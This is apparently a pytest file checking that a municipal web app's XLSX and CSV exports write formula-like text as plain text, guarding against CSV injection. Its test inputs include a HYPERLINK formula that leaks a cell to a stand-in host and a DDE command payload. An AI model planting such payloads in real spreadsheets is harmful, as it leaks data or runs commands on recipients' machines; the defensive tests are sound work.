"""Formula injection (OWASP "CSV injection"): text that a spreadsheet would run as a formula is written as
text in every export, XLSX and CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from core import audit, clock, jobs, modules, reports
from core.db import db
from core.spreadsheet import csv_value, formula_like
from tests.conftest import login_as, make_tenant
from tests.informieren.register_support import add_person
from tests.test_reports import result_of

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
HOSTILE = [LEAK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_no_formula(content: bytes, *expected: str) -> None:
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    for text in expected:  # kept as typed, marked as text for Excel (no apostrophe in the value)
        found = [cell for cell in cells if cell.value == text]
        assert found and all(cell.data_type == "s" and cell.quotePrefix for cell in found), text


def csv_cells(content: bytes, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text):
    assert formula_like(text) and csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Müller", "", " =1", "1-2", "2017-03-01", "a=b", 12, -5, 2.5, None,
                                   date(2017, 1, 1)])
def test_other_values_stay_as_they_are(value):
    assert not formula_like(value) and csv_value(value) == value


def test_the_report_renderers_write_formulas_as_text_and_numbers_as_numbers(ctx):
    report = reports.Report("=Titel", "-Untertitel", [reports.Section("@Abschnitt", [
        reports.Table("+Tabelle", ["=Spalte", "Zahl"], [[text, -3] for text in HOSTILE] + [["ok", 2.5]]),
    ], [reports.Chart("Diagramm", ["=Kategorie"], {"=Reihe": [-1]})])])
    content = reports.render_xlsx(report)
    assert_no_formula(content, *HOSTILE, "=Titel", "-Untertitel", "+Tabelle", "=Spalte", "=Kategorie", "=Reihe")
    numbers = [cell.value for cell in xlsx_cells(content) if cell.data_type == "n"]
    assert numbers.count(-3) == len(HOSTILE) and 2.5 in numbers and -1 in numbers

    cells = csv_cells(reports.render_csv(report), ";")
    assert [cell for cell in cells if formula_like(cell)] == ["-3"] * len(HOSTILE)  # the numbers
    assert all("'" + text in cells for text in HOSTILE) and "2.5" in cells


@pytest.fixture
def grenchen(app, ctx, monkeypatch):
    monkeypatch.setitem(app.config, "REDIS_URL", None)
    make_tenant("kanton", kind="canton")
    tenant = make_tenant("grenchen", communes=[2546])
    modules.entitle(tenant, "informieren")
    modules.activate(tenant, "informieren")
    db.session.commit()
    return tenant


def test_an_imported_permit_is_text_in_the_tenant_report(grenchen):
    add_person(grenchen, permit_category="=1+1", arrival_date=clock.today(), source="csv")
    db.session.commit()
    files = {fmt: result_of(jobs.enqueue("report", grenchen, {"period": str(clock.today().year), "format": fmt,
                                                               "scope": "tenant"}), grenchen)
             for fmt in ("xlsx", "csv")}
    assert_no_formula(files["xlsx"], "=1+1")
    cells = csv_cells(files["csv"], ";")
    assert "'=1+1" in cells and "=1+1" not in cells


def test_a_tenant_name_is_text_in_the_rollout_xlsx(client, ctx):
    canton = make_tenant("kanton", kind="canton")
    make_tenant("boese", communes=[2546], name="=1+1")
    login_as(client, (canton, "canton_admin"))
    response = client.get("/kanton/rollout.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.data, "=1+1")


def test_the_audit_csv_writes_formulas_as_text(client, grenchen):
    audit.record_at_once("=1+1", tenant_id=grenchen.id, object_type="+x", object_id=LEAK)
    login_as(client, (grenchen, "tenant_admin"))
    response = client.get("/grenchen/protokoll.csv")
    cells = csv_cells(response.data, ",")
    assert "'=1+1" in cells and "'+x" in cells and "'" + LEAK in cells
    assert not any(formula_like(cell) for cell in cells)
